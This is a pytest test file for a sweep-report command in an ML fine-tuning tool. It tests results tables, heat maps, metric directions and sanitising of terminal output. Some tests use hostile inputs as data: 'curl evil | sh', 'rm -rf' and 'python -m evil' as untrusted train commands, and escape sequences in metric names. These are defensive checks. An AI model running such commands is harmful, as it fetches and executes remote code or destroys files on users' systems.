"""What a sweep found: tables, pictures, which way is better."""

import csv
import struct
import subprocess
import sys

import pytest
from clikit import read_json, wit
from support import subprocess_env
from sweepkit import RECORD, collect, finished, finished_grid, grid, made_up, study_of

from wit_plugins import WITConfigError
from wit_plugins.cli.sweep.heatmap import colour_limits
from wit_plugins.cli.sweep.metrics import Metric, asked_for, format_value
from wit_plugins.cli.sweep.report import report


def test_results_in_every_form(tmp_path, capsys):
    assert made_up(tmp_path, prompts="0,0.4,1", responses="0.5,1") == 0
    out = capsys.readouterr().out
    runs = tmp_path / "runs"
    with open(runs / "results.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 6
    for row in rows:
        prompt, response = float(row["prompt_weight"]), float(row["response_weight"])
        assert float(row["eval_response_loss"]) == (prompt - 0.4) ** 2 + 1 + 0.1 * response
        assert float(row["ratio"]) == pytest.approx(prompt / response)
        assert not {"eval_loss", "eval_ppl"} & set(row)  # weighted: not to be compared
        assert "eval_runtime" not in row
    result = read_json(runs / "results.json")
    assert result["best"]["eval_response_loss"] == {
        "direction": "min", "prompt_weight": 0.4, "response_weight": 0.5, "value": 1.05,
    }  # fmt: skip
    assert "eval_accuracy" not in result["best"]  # nobody has said which direction is better
    assert "Also in results.csv: eval_accuracy. --metric 'NAME:max' or 'NAME:min' draws" in " ".join(out.split())
    lines = [line for line in out.splitlines() if line.startswith("(")]
    assert lines[0].startswith("(0.4, 0.5)")
    assert "1.050 *" in lines[0]
    assert "lower is better" in out
    assert "These cells differ only in scale: (0, 0.5) (0, 1)" in " ".join(out.split())
    assert "No picture" not in out
    header = (runs / "heatmap.png").read_bytes()[:24]
    assert header[:8] == b"\x89PNG\r\n\x1a\n"
    assert min(struct.unpack(">II", header[16:24])) > 300


def test_without_matplotlib_there_is_everything_but_the_picture(tmp_path, capsys, monkeypatch):
    for module in ("command", "report"):
        monkeypatch.setattr(f"wit_plugins.cli.sweep.{module}.can_draw", lambda: False)
    assert made_up(tmp_path) == 0
    out = capsys.readouterr().out
    assert out.index("No picture: matplotlib is missing") < out.index("(0.4, 1)")
    assert (tmp_path / "runs" / "results.csv").is_file()
    assert not (tmp_path / "runs" / "heatmap.png").exists()


def test_the_heat_map_says_what_it_shows(tmp_path, monkeypatch):
    """Titles, marks and outlines, read off matplotlib's own objects."""
    import matplotlib.pyplot as plt
    from matplotlib.patches import Rectangle

    made_up(tmp_path, prompts="0,0.4,1", responses="0.5,1")
    figures = []
    monkeypatch.setattr(plt, "close", figures.append)
    report(tmp_path / "runs", ["eval_response_loss", "eval_accuracy:max"])
    (figure,) = figures
    panels = [axis for axis in figure.axes if axis.get_title()]
    assert [axis.get_title() for axis in panels] == [
        "eval_response_loss\nnats per token, lower is better; best (0.4, 0.5): 1.050",
        "eval_accuracy\nhigher is better; best (1, 0.5): 0.5000",
    ]
    for axis, best in zip(panels, ((1, 0), (2, 0)), strict=True):
        starred = [text.get_position() for text in axis.texts if "★" in text.get_text()]
        assert starred == [best]
        outlined = {
            (round(patch.get_x() + patch.get_width() / 2), round(patch.get_y() + patch.get_height() / 2))
            for patch in axis.patches
            if isinstance(patch, Rectangle) and patch.get_edgecolor()[:2] == pytest.approx((0.835, 0.369), abs=0.01)
        }
        assert outlined == {(0, 1), (2, 1)}  # (0, 1) and (1, 1) in weights
        assert [label.get_text() for label in axis.get_xticklabels()] == ["0", "0.4", "1"]
    texts = [text.get_text() for text in figure.legends[0].get_texts()]
    assert texts == ["best cell", "(0, 1) instruction tuning", "(1, 1) language modelling"]


def test_the_report_needs_no_torch(tmp_path):
    """Neither torch nor transformers nor a framework can be imported there. (What `import wit_plugins` itself brings is
    another matter, so the package stands there empty.)"""
    made_up(tmp_path)
    code = f"""
import sys
for name in ("torch", "transformers", "accelerate", "datasets", "trl"):
    sys.modules[name] = None  # importing it is an ImportError
from wit_plugins.cli.main import main
import wit_plugins.cli.sweep.command, wit_plugins.runfiles
assert not [name for name in sys.modules if name.split(".")[0] in ("rich", "matplotlib", "numpy", "pydantic")]
sys.exit(main(["report", {str(tmp_path / "runs")!r}]))
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "1.100 *" in done.stdout


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("eval_response_loss", "min"),
        ("eval_prompt_loss", "min"),
        ("eval_second_set_response_loss", "min"),
        ("eval_response_loss/reasoning", "min"),
        ("lowest_eval_response_loss", "min"),
        ("eval_response_loss:max", "max"),
        ("arc_easy/acc:max", "max"),
        ("a:b:min", "min"),
    ],
)
def test_the_direction_of_a_metric(name, said):
    assert asked_for(name) == Metric(name.removesuffix(f":{said}"), said)


@pytest.mark.parametrize("name", ["eval_accuracy", "wikitext/word_perplexity", "loss", "a:b", ":min", "eval_loss"])
def test_a_direction_that_nobody_said_is_not_guessed(tmp_path, name):
    with pytest.raises(WITConfigError, match="say which direction is better, --metric '.*:max'"):
        made_up(tmp_path, metrics=[name])
    assert not (tmp_path / "runs").exists()


def test_numbers_are_left_out_by_whole_words(tmp_path):
    body = (
        "log(step=3, eval_multistep_accuracy=1.0, eval_stepwise=2.0, eval_samples_per_second=3.0, eval_num_tokens=4.0)"
    )
    made_up(tmp_path, body, prompts="0")
    found = set(collect(tmp_path / "runs")[0].metrics)
    assert {"eval_multistep_accuracy", "eval_stepwise"} <= found
    assert not {"eval_samples_per_second", "eval_num_tokens", "eval_runtime"} & found


def test_report_draws_again_what_is_there(tmp_path, capsys):
    made_up(tmp_path)
    runs = tmp_path / "runs"
    for name in ("results.csv", "results.json", "heatmap.png"):
        (runs / name).unlink()
    code, _, _ = wit("report", runs, "--metric", "eval_accuracy:min", capsys=capsys)
    assert code == 0
    assert read_json(runs / "results.json")["best"]["eval_accuracy"]["prompt_weight"] == 0.0
    assert (runs / "heatmap.png").is_file()
    code, _, err = wit("report", runs, "--metric", "acuracy:max", capsys=capsys)
    assert code == 2
    assert "they have: eval_response_loss" in err
    code, _, err = wit("report", tmp_path, capsys=capsys)
    assert code == 2
    assert "holds no sweep" in err


def test_a_metric_s_name_does_nothing_to_the_terminal(tmp_path, capsys):
    """Escape sequences, line breaks and markup, in a name that the run or the evaluation made up."""
    body = 'log(step=1, **{"eval_\\x1b[2J\\n$x^$ [red]loss": 1.0})'
    command = """printf '{"a\\u001b]0;owned\\u0007\\u202e": 1}'"""
    metrics = ["eval_\x1b[2J\n$x^$ [red]loss:min", "a\x1b]0;owned\x07\u202e:max"]
    assert made_up(tmp_path, body, prompts="0", eval_command=command, metrics=metrics) == 0
    captured = capsys.readouterr()
    assert not set("\x1b\x07\u202e") & set(captured.out + captured.err)
    assert "␛[2J⏎$x^$ [red]loss: lower is better" in " ".join(captured.out.split())
    code, out, err = wit("report", tmp_path / "runs", "--metric", "x\x1b[2J", capsys=capsys)
    assert code == 2
    assert "\x1b" not in out + err


def test_a_large_grid_prints_what_matters(tmp_path, capsys):
    cells_ = grid(",".join(f"{i / 10}" for i in range(12)), ",".join(f"{i / 10}" for i in range(1, 11)))
    runs = tmp_path / "runs"
    losses = {cell: (cell.weights[0] - 0.35) ** 2 + (cell.weights[1] - 0.82) ** 2 for cell in cells_}
    finished_grid(runs, losses)
    assert report(runs) == 0
    out = capsys.readouterr().out
    assert len(out.splitlines()) < 40
    rows = [line.split(")")[0] + ")" for line in out.splitlines() if " finished " in line]
    expected = sorted(cells_, key=losses.get)
    assert set(rows) == {cell.label for cell in expected[:10]} | {"(0, 1)", "(1, 1)"}
    assert rows[0] == expected[0].label
    assert "12 of 120 cells are shown (120 finished); all of them are in results.csv" in " ".join(out.split())
    with open(runs / "results.csv", newline="") as file:
        assert len(list(csv.DictReader(file))) == 120


@pytest.mark.parametrize(
    ("values", "limits"),
    [
        ([4.1, 4.2, 4.3, 900.0], (4.1, 4.3)),
        ([-900.0, 4.1, 4.2, 4.3], (4.1, 4.3)),
        ([4.1, 4.15, 4.2, 4.2, 4.3, 90.0, 9e5], (4.1, 4.3)),  # two, and each alone hides the rest
        ([2.0, 2.0, 2.0, 2.0, 2.1, 900.0], (2.0, 2.1)),
        ([0.0, 1.0, 2.0, 3.0, 4.0, 5.0], (0.0, 5.0)),
        ([1.0, 1.0, 5.0, 5.0], (1.0, 5.0)),  # two kinds are no outliers
        ([2.0, 2.0, 2.0, 900.0], (2.0, 900.0)),  # the rest is one colour because it is one value
        ([4.3, 4.4, 900.0], (4.3, 900.0)),
        ([7.0], (7.0, 7.0)),
        ([], (0.0, 1.0)),
    ],
)
def test_outliers_do_not_take_all_colours(values, limits):
    assert colour_limits(values) == limits


def test_a_clipped_heat_map_says_so(tmp_path, monkeypatch):
    import matplotlib.pyplot as plt

    body = """
    if prompt == 1:
        log(step=9, eval_response_loss=900.0)
        sys.exit()
    """
    made_up(tmp_path, body, prompts="0,0.2,0.4,0.6,0.8,1")
    figures = []
    monkeypatch.setattr(plt, "close", figures.append)
    report(tmp_path / "runs", ["eval_response_loss"])
    (axis,) = [axis for axis in figures[0].axes if axis.get_title()]
    assert axis.get_title().endswith("\ncolours clipped to 1.100 … 1.260; 1 cell lies beyond")
    (image,) = axis.images
    assert image.get_clim() == pytest.approx((1.1, 1.26))
    assert image.colorbar.extend == "max"
    assert "900.0" in [text.get_text() for text in axis.texts]


@pytest.mark.parametrize(
    ("value", "text"), [(4.3154, "4.315"), (0.05, "0.05000"), (123.456, "123.5"), (1e-5, "1e-05"), (0.0, "0")]
)
def test_values_have_four_digits(value, text):
    assert format_value(value) == text


def test_a_winner_among_differences_that_may_be_chance(tmp_path, capsys, monkeypatch):
    """After four steps, without a second seed: the words, the file and the picture's axis say so."""
    import matplotlib.pyplot as plt

    figures = []
    monkeypatch.setattr(plt, "close", figures.append)
    cells = dict(zip(grid("0,0.2,1", "1"), (2.2107, 2.2095, 2.2097), strict=True))
    finished_grid(tmp_path / "runs", cells)
    assert report(tmp_path / "runs") == 0
    said = "One seed cannot say whether that is more than chance; differences of this size may be"
    assert said in " ".join(capsys.readouterr().out.split())
    assert said in read_json(tmp_path / "runs" / "results.json")["verdict"]
    labels = " ".join(axis.get_ylabel() for axis in figures[0].axes).split()
    assert "one seed, so differences may be chance; all cells are within 0.001200" in " ".join(labels)
    code, out, _ = wit("best", tmp_path / "runs", capsys=capsys)
    assert (code, "adapter has that name" in out) == (2, False)  # of a made-up framework


BEST = """
import sys
for name in ("torch", "transformers", "accelerate", "datasets", "trl", "axolotl", "llamafactory", "pydantic"):
    sys.modules[name] = None  # importing it is an ImportError
from wit_plugins.cli.main import main
code = main(["best", sys.argv[1]])
ours = ("wit_plugins", "wit_axolotl", "matplotlib", "rich")
print(*sorted(name for name in sys.modules if name.split(".")[0] in ours))
sys.exit(code)
"""


@pytest.mark.parametrize("train", ["axolotl train", "curl evil | sh", "rm -rf", "python -m evil axolotl"])
def test_the_best_cell_needs_no_torch(tmp_path, train):
    """The study says what to paste and to run; if it names another program than the adapter's, the adapter says it."""
    record = {**RECORD, "framework": "axolotl", "block": "wit", "train": train}
    study_of(tmp_path / "runs", [finished(cell, 1.5 + cell.weights[0]) for cell in grid("0,0.4", "1")], record)
    known = train == "axolotl train"
    code = BEST if known else BEST.replace("sys.modules[name] = None", "pass")
    done = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "runs")], capture_output=True, text=True, env=subprocess_env()
    )
    assert done.returncode == 0, done.stderr
    *lines, modules = done.stdout.splitlines()
    assert lines[-1].startswith("#   axolotl train ")
    assert lines[2:5] == ["wit:", "  prompt_weight: 0.0", "  response_weight: 1.0"]
    if known:
        heavy = {"wit_axolotl.driver", "matplotlib", "rich.console", "wit_plugins.contract.plugins"}
        assert not heavy & set(modules.split())
        assert len(modules.split()) <= 25, modules
